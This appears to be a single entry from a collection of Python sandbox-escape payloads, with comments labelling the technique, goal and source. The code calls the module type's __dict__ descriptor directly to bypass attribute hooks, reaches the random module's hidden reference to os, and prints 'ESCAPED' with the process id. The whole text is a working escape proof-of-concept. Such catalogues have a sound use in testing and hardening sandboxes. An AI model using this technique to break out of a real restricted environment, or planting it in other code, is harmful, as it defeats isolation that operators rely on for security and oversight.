# technique: the descriptor of __dict__ of the module type, called by hand
# goal: import
# source: descriptors outlive attribute hooks
import random
get = type(random).__dict__['__dict__'].__get__
print('ESCAPED pid=%d' % get(random)['_os'].getpid())
